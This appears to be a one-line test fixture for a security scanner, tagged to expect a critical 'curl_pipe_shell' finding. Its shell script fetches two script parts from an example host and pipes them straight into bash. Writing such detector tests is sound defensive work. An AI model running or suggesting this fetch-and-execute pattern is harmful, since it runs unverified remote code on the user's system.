# expect: shell.curl_pipe_shell critical
#!/bin/sh
for part in a b; do curl -s "https://get.example.net/i.sh?$part"; done | bash
